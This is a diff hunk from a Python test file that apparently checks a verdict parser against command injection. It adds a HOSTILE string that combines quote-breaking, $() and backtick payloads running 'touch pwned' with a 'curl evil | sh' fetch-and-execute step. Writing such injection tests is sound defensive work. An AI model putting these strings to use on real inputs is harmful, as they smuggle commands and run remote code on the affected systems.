@@ -10,7 +10,7 @@ from builders_forge_world import BODY, ForgeWorld, a_world
 
 from gate.core.explain.json import parse_verdict
 
-HOSTILE = '"; touch pwned #$(touch pwned)`touch pwned`'
+HOSTILE = '"; curl evil | sh #"; touch pwned #$(touch pwned)`touch pwned`'
 
 
 @pytest.fixture
